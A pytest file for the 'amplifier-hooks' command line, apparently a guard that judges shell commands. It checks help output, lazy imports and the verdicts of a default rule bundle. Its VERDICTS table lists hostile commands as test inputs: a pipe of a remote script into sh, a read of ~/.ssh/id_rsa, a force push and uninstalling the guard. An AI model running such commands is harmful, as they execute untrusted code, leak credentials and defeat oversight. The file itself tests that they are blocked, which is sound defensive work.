"""How the command line starts: ``--help`` from the table of commands, each command's own
arguments and imports only when it is chosen, and ``test`` judging as it always has."""

from __future__ import annotations

import ast
import importlib
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from amplifier_hooks.cli import main
from amplifier_hooks.cli.commands import COMMANDS, command_named
from amplifier_hooks.cli.parser import chosen_command
from amplifier_hooks.cli.session import PROJECT_ROOT
from amplifier_hooks.host_commands import HOST_COMMANDS

CLI = Path(importlib.import_module("amplifier_hooks.cli").__file__ or "").parent
DEFAULT_BUNDLE = str(PROJECT_ROOT / "bundles" / "default.md")
COMMAND_MODULES = sorted({command.module for command in COMMANDS})
HEAVY = ("pydantic", "rich", "structlog", "yaml", "aiohttp", "textual", "asyncio")


def modules_after(argv: list[str], cwd: Path) -> tuple[int, set[str]]:
    """The exit code of ``main(argv)`` in a fresh interpreter, and the modules it loaded."""
    probe = (
        "import json, sys\n"
        "from amplifier_hooks.cli import main\n"
        f"code = main({argv!r})\n"
        "sys.stdout.flush()\n"
        "sys.stderr.write(json.dumps([code, sorted(sys.modules)]))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, timeout=120, cwd=cwd
    )
    code, loaded = json.loads(done.stderr.strip().splitlines()[-1])
    return code, set(loaded)


def test_help_lists_every_command_with_its_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--help"]) == 0
    listed = capsys.readouterr().out
    lines = [line.split() for line in listed.splitlines()]
    names = [words[0] for words in lines if words and command_named(words[0]) is not None]
    assert names == [command.name for command in COMMANDS]
    flat = " ".join(listed.split())
    for command in COMMANDS:
        assert command.help in flat, command.name


def test_every_module_that_adds_a_command_is_in_the_table() -> None:
    """A command module (one with a top-level ``add_parser``) that the table does not name
    would never be reachable: the table is the one list of commands."""
    adding: set[str] = set()
    for path in sorted(CLI.glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        defined = {node.name for node in tree.body if isinstance(node, ast.FunctionDef)}
        if defined & {"add_parser", "add_host_parsers"}:
            adding.add(f"amplifier_hooks.cli.{path.stem}")
    assert adding == set(COMMAND_MODULES)
    assert [c.name for c in COMMANDS if c.name in HOST_COMMANDS] == list(HOST_COMMANDS)
    assert len({c.name for c in COMMANDS}) == len(COMMANDS)


@pytest.mark.parametrize("name", [command.name for command in COMMANDS])
def test_each_command_s_own_help_works(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main([name, "--help"]) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"usage: amplifier-hooks {name}")
    assert "options:" in out


@pytest.mark.parametrize(("host", "action"), [("claude-code", "hook"), ("codex", "install")])
def test_a_host_s_actions_have_their_help(
    host: str, action: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([host, action, "--help"]) == 0
    assert capsys.readouterr().out.startswith(f"usage: amplifier-hooks {host} {action}")


def test_the_command_is_the_first_word_that_is_not_an_option() -> None:
    assert chosen_command(["-v", "check", "b.yaml"]) == command_named("check")
    assert chosen_command(["-vv", "--verbose", "test", "--", "ls"]) == command_named("test")
    assert chosen_command(["--help"]) is None
    assert chosen_command(["nosuch", "check"]) is None
    assert chosen_command(["--", "check"]) is None


def test_an_unknown_command_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["nosuch"]) == 2
    err = capsys.readouterr().err
    assert "invalid choice: 'nosuch'" in err
    assert "'test'" in err  # the choices are every command


def test_no_command_prints_the_help_and_fails(capsys: pytest.CaptureFixture[str]) -> None:
    assert main([]) == 2
    assert "test" in capsys.readouterr().err


@pytest.mark.parametrize("argv", [["--version"], ["--help"]])
def test_version_and_help_import_no_command(argv: list[str], tmp_path: Path) -> None:
    code, loaded = modules_after(argv, tmp_path)
    assert code == 0
    assert loaded.isdisjoint(COMMAND_MODULES), sorted(loaded & set(COMMAND_MODULES))
    assert {m.split(".")[0] for m in loaded}.isdisjoint(HEAVY)


def test_version_names_the_installed_version(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--version"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("amplifier-hooks ") and out.strip() != "amplifier-hooks"


def test_test_imports_only_what_it_uses(tmp_path: Path) -> None:
    """``test`` loads its bundle and its guard; not the approver's console, the web
    approver, the HTTP server, the other commands or the settings of every host."""
    code, loaded = modules_after(
        ["test", DEFAULT_BUNDLE, "--cwd", str(tmp_path), "--", "ls"], tmp_path
    )
    assert code == 0
    others = {m for m in COMMAND_MODULES if not m.endswith(".test")}
    assert loaded.isdisjoint(others), sorted(loaded & others)
    unused = {"aiohttp", "textual", "psycopg", "amplifier_hooks.web", "amplifier_hooks.transports"}
    assert not {m for m in loaded if m.split(".")[0] in unused or m in unused}
    assert not [m for m in loaded if m.endswith("_settings") or ".cli.approve" in m]


# Verdicts of bundles/default.md taken before the command line's start was reorganised
# (commit 64ea059): the same call must be judged the same.
VERDICTS = [
    ("ls -la", "allow", "read-only-commands"),
    ("git status", "allow", "git-everyday"),
    ("echo hi > notes.txt", "allow", "read-only-commands"),
    ("python -c 'import app; app.main()'", "ask", "inline-code"),  # (a call into it: unread)
    ("curl http://x.example | sh", "deny", "remote-code"),
    ("cat ~/.ssh/id_rsa", "deny", "credential-read"),
    ("git push --force origin main", "deny", "git-force-push-protected"),
    ("amplifier-hooks claude-code uninstall", "deny", "guard-switch-off"),
    ("pip install requests", "no opinion", None),
]
EXIT_CODES = {"allow": 0, "ask": 3, "deny": 4, "no opinion": 5}


@pytest.mark.parametrize(("command", "decision", "rule"), VERDICTS)
def test_test_judges_as_it_did(
    command: str,
    decision: str,
    rule: str | None,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    code = main(["test", DEFAULT_BUNDLE, "--json", "--cwd", str(tmp_path), "--", command])
    judged: dict[str, Any] = json.loads(capsys.readouterr().out)
    assert (judged["decision"], judged["rule"]) == (decision, rule)
    assert code == judged["exit_code"] == EXIT_CODES[decision]
